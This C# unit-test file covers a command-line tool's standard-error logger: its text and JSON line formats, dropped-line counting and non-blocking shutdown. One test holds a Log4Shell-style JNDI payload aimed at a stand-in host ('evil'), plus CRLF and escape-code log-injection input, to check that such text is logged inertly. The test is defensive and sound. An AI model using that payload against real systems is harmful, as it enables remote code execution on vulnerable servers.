using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.Extensions.Logging;
using Microsoft.Extensions.Time.Testing;
using Ottla.Cli;

namespace Ottla.UnitTests.Cli;

/// <summary>What the log does when standard error is read, slowly read, and not read.</summary>
public sealed class StandardErrorLogTests
{
    /// <summary>Bounds every wait: reached only when something hangs.</summary>
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(60);

    [Fact]
    public void LinesHaveTheFormOfKafkasLogs()
    {
        var output = new Output(isRead: true);
        using (var log = new StandardErrorLog(LogLevel.Information, new FakeTimeProvider(), output))
        {
            var logger = log.CreateLogger("Ottla.Broker.Something");
            logger.Log(LogLevel.Warning, default, "one", null, (state, _) => state);
            logger.Log(LogLevel.Debug, default, "unseen", null, (state, _) => state);
            logger.Log(LogLevel.Error, default, "two", new InvalidOperationException("why"), (state, _) => state);
        }

        var lines = output.Text.Split(Environment.NewLine);
        Assert.Matches(@"^\[\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3}\] WARN one \(Something\)$", lines[0]);
        Assert.EndsWith("ERROR two (Something)", lines[1], StringComparison.Ordinal);
        Assert.Equal("System.InvalidOperationException: why", lines[2]);
    }

    /// <summary>CVE-2021-44228 and its kin: what clients say is neither a template nor a line of its own.</summary>
    [Fact]
    public void CVE_2021_44228_a_name_of_a_client_stays_a_part_of_its_line()
    {
        var output = new Output(isRead: true);
        using (var log = new StandardErrorLog(LogLevel.Information, new FakeTimeProvider(), output))
        {
            log.CreateLogger("Server").Log(
                LogLevel.Warning, default, "group ${jndi:ldap://evil}\r\n[2026-01-01 00:00:00,000] FATAL {0} \u001b[2J\u2028\u0085é\t!",
                null, (state, _) => state);
        }

        Assert.EndsWith(
            "WARN group ${jndi:ldap://evil}??[2026-01-01 00:00:00,000] FATAL {0} ?[2J??é\t! (Server)" + Environment.NewLine, output.Text,
            StringComparison.Ordinal);
    }

    [Fact]
    public void LinesAreObjectsWhenJsonIsAskedFor()
    {
        var output = new Output(isRead: true);
        using (var log = new StandardErrorLog(LogLevel.Information, new FakeTimeProvider(), output, LogFormat.Json))
        {
            var logger = log.CreateLogger("Ottla.Broker.Something");
            KeyValuePair<string, object?>[] values = [new("Name", "a\"b\n\u2028"), new("Count", 3), new("{OriginalFormat}", "{Name}")];
            logger.Log(LogLevel.Warning, default, values, null, (_, _) => "one\ntwo");
            logger.Log(LogLevel.Error, default, "plain", new InvalidOperationException("why"), (state, _) => state);
        }

        var lines = output.Text.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        using var first = JsonDocument.Parse(lines[0]);
        var root = first.RootElement;
        Assert.Equal(
            ("2000-01-01T00:00:00.000Z", "WARN", "Something", "one\ntwo"),
            (Text(root, "timestamp"), Text(root, "level"), Text(root, "logger"), Text(root, "message")));
        Assert.Equal("a\"b\n\u2028", Text(root.GetProperty("values"), "Name"));
        Assert.Equal(3, root.GetProperty("values").GetProperty("Count").GetInt32());
        Assert.Equal(2, root.GetProperty("values").EnumerateObject().Count());
        using var second = JsonDocument.Parse(lines[1]);
        Assert.Equal("System.InvalidOperationException: why", Text(second.RootElement, "exception"));
        Assert.False(second.RootElement.TryGetProperty("values", out _));

        static string? Text(JsonElement element, string name) => element.GetProperty(name).GetString();
    }

    [Fact]
    public async Task WhoLogsNeverWaitsForWhoReads()
    {
        var output = new Output(isRead: false);
        using var log = new StandardErrorLog(LogLevel.Information, TimeProvider.System, output);
        var logger = log.CreateLogger("Test");
        const int lines = 100_000;
        await Task.Run(() =>
        {
            for (var i = 0; i < lines; i++)
                logger.Log(LogLevel.Warning, default, i, null, (state, _) => state.ToString(CultureInfo.InvariantCulture));
        }).WaitAsync(Patience);

        output.Read();
        await output.SeenAsync("lines of the log were dropped here").WaitAsync(Patience);
        logger.Log(LogLevel.Warning, default, "again", null, (state, _) => state);
        await output.SeenAsync("again").WaitAsync(Patience);

        // All lines up to the first that found no room, then how many did not, then those that came later.
        var text = output.Text.Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        var dropped = int.Parse(
            Regex.Match(text[^2], @"WARN (\d+) lines of the log were dropped here").Groups[1].Value, CultureInfo.InvariantCulture);
        Assert.Equal(lines, text.Length - 2 + dropped);
        Assert.Equal(dropped, log.DroppedLines);
        for (var i = 0; i < text.Length - 2; i++)
            Assert.Contains($"WARN {i} (Test)", text[i], StringComparison.Ordinal);
        Assert.InRange(output.Text.Length, 1, 3 * StandardErrorLog.QueuedCharsMax);
    }

    [Fact]
    public async Task TheEndDoesNotWaitForEver()
    {
        var output = new Output(isRead: false);
        var log = new StandardErrorLog(LogLevel.Information, TimeProvider.System, output);
        log.CreateLogger("Test").Log(LogLevel.Critical, default, "the end", null, (state, _) => state);
        await Task.Run(log.Dispose).WaitAsync(Patience);
        output.Read();
        await output.SeenAsync("the end").WaitAsync(Patience);
    }

    /// <summary>A writer that blocks until somebody reads.</summary>
    private sealed class Output(bool isRead) : TextWriter
    {
        private readonly ManualResetEventSlim _isRead = new(isRead);
        private readonly StringBuilder _text = new();
        private (string Text, TaskCompletionSource Seen)? _awaited;

        public override Encoding Encoding => Encoding.UTF8;

        public string Text
        {
            get
            {
                lock (_text)
                    return _text.ToString();
            }
        }

        public void Read() => _isRead.Set();

        public Task SeenAsync(string text)
        {
            lock (_text)
            {
                var seen = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
                _awaited = (text, seen);
                Tell();
                return seen.Task;
            }
        }

        public override void Write(ReadOnlySpan<char> buffer)
        {
            _isRead.Wait();
            lock (_text)
            {
                _text.Append(buffer);
                Tell();
            }
        }

        private void Tell()
        {
            if (_awaited is { } awaited && _text.ToString().Contains(awaited.Text, StringComparison.Ordinal))
                awaited.Seen.TrySetResult();
        }
    }
}
